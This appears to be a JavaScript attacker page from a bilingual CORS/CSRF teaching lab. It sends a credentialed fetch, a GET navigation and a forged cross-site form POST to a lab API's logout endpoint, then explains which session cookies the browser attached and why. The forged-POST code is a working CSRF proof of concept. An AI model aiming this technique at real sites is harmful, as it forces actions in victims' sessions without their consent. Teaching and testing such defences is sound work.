// What goes along: the three requests a page can make the visitor's browser send to the API,
// and which cookies the browser attaches to each.
//   1. a credentialed fetch of the session data (the answer stays hidden: CORS);
//   2. a top-level GET navigation to it, in a window this page opens;
//   3. a forged form POST to /api/logout/ in that window: with no CSRF check, the session
//      cookie alone decides whether the API logs the visitor out.
// The page never sees the answers to 2 and 3 (another origin's window), nor any cookie: the
// lab's referee tells it what the API received.

import { afterAClick, apiUrl, config, finish, report } from "./common.js";
import { refereeWaitFor } from "./own_server.js";

const ja = config.lang === "ja";
const WINDOW = "corslab-probe";
const started = Date.now();
const SESSION = "sessionid";

/** A window of this page's own, for top-level navigations (a click may be needed to open it). */
async function openWindow() {
  const opened = window.open("about:blank", WINDOW);
  if (opened) return opened;
  // A browser that blocks pop-ups without a click: ask for one.
  await afterAClick({ en: "Run the attack (opens a window)", ja: "攻撃を実行する（ウィンドウを開きます）" });
  return window.open("about:blank", WINDOW);
}

/** Whether `win` shows another origin's document (the API's), out of this page's reach. */
function elsewhere(win) {
  try {
    return !win.document;
  } catch {
    return true;
  }
}

async function until(condition, failure) {
  const deadline = Date.now() + 10000;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(failure);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** Navigates `win` to `url` and waits until the API's answer is shown there. */
async function navigate(win, url) {
  win.location.href = url;
  await until(() => elsewhere(win), "the window never showed the API's answer");
}

/**
 * Posts a form to `url` from `win`: back on a blank page of this origin first (the API's
 * answer there is out of reach), then a form built on it.
 */
async function postFrom(win, url) {
  win.location.href = "about:blank";
  await until(() => !elsewhere(win) && win.document.readyState === "complete", "the window did not come back");
  const form = win.document.createElement("form");
  form.method = "POST";
  form.action = url;
  win.document.body.append(form);
  form.submit();
}

const atApi = (path) => (seen) => seen.path.endsWith(path);

/** The three requests, and what the referee saw of each. */
async function probe() {
  let fetched;
  try {
    const res = await fetch(apiUrl("/api/session-data/", "include"), { credentials: "include" });
    fetched = { status: res.status };
  } catch (e) {
    fetched = { error: `${e.name}: ${e.message}` };
  }
  const fetchSeen = await refereeWaitFor(started, (s) => s.mode === "cors" && atApi("/api/session-data/")(s));
  const win = await openWindow();
  await navigate(win, apiUrl("/api/session-data/", "include"));
  const navSeen = await refereeWaitFor(started, (s) => s.mode === "navigate" && s.method === "GET" && atApi("/api/session-data/")(s));
  await postFrom(win, apiUrl("/api/logout/", "include"));
  const postSeen = await refereeWaitFor(started, (s) => s.method === "POST" && atApi("/api/logout/")(s));
  win.close();
  const received = (seen) => (seen ? { cookies: seen.cookies, status: seen.status, site: seen.site } : null);
  return { fetch: { script_saw: fetched, api_received: received(fetchSeen) }, navigation: received(navSeen), form_post: received(postSeen) };
}

/** `[succeeded, en, ja]` for what the API received. */
function verdict({ fetch, navigation, form_post }) {
  const names = (seen) => (seen && seen.cookies.length ? seen.cookies.join(", ") : ja ? "なし" : "none");
  const carried = (seen) => Boolean(seen && seen.cookies.includes(SESSION));
  const received = ja
    ? ` API が受け取った Cookie — fetch: ${names(fetch.api_received)}、GET 遷移: ${names(navigation)}、フォーム POST: ${names(form_post)}（ラボの審判より。攻撃者自身にはどの応答も見えません）。`
    : ` Cookies the API received — fetch: ${names(fetch.api_received)}; GET navigation: ${names(navigation)}; form POST: ${names(form_post)} (from the lab's referee: the attacker sees none of the answers).`;
  const thirdParty = fetch.api_received && fetch.api_received.site === "cross-site" && fetch.api_received.cookies.length === 0
    ? (ja
      ? " 別サイトの fetch に Cookie が付かないのは、SameSite 以前にこのブラウザーがサードパーティー Cookie をブロックしているからです（新しい Chromium プロファイルの既定。普段のブラウザーでは違うかもしれません）。"
      : " Another site's fetch carries no cookies here whatever SameSite says: this browser blocks third-party cookies (a fresh Chromium profile does; your everyday browser may not).")
    : "";
  const tail = received + thirdParty;
  if (!form_post) {
    return [false, "the forged form POST never reached the API." + tail, "偽造フォーム POST が API に届きませんでした。" + tail];
  }
  if (!carried(form_post)) {
    return [false,
      `your browser left your session cookie off this page's form POST (SameSite), so the API had no session to end.${tail}`,
      `ブラウザーはこのページのフォーム POST にセッション Cookie を付けませんでした（SameSite）。API には終わらせるセッションがありません。${tail}`];
  }
  if (form_post.status !== 200) {
    return [false,
      `your session cookie went along on the forged form POST, but the API refused it (HTTP ${form_post.status}: the CSRF check).${tail}`,
      `偽造フォーム POST にセッション Cookie は付きましたが、API が拒否しました（HTTP ${form_post.status}: CSRF チェック）。${tail}`];
  }
  if (!navigation || navigation.status !== 200) {
    return [false,
      `a session cookie went along, but no live session of this mount (log in to it first, then attack).${tail}`,
      `セッション Cookie は付きましたが、このマウントの有効なセッションではありません（先にログインしてから攻撃してください）。${tail}`];
  }
  return [true,
    `your browser attached your session cookie to this page's forged form POST, and with no CSRF check the API logged you out.${tail}`,
    `ブラウザーがこのページの偽造フォーム POST にあなたのセッション Cookie を付け、CSRF チェックのない API はあなたをログアウトさせました。${tail}`];
}

try {
  const loot = { against: config.against, ...(await probe()) };
  await report(loot);
  const [succeeded, inEnglish, inJapanese] = verdict(loot);
  finish(succeeded, loot, { en: inEnglish, ja: inJapanese });
} catch (e) {
  finish(false, { against: config.against, error: String(e) }, { en: String(e), ja: String(e) });
}
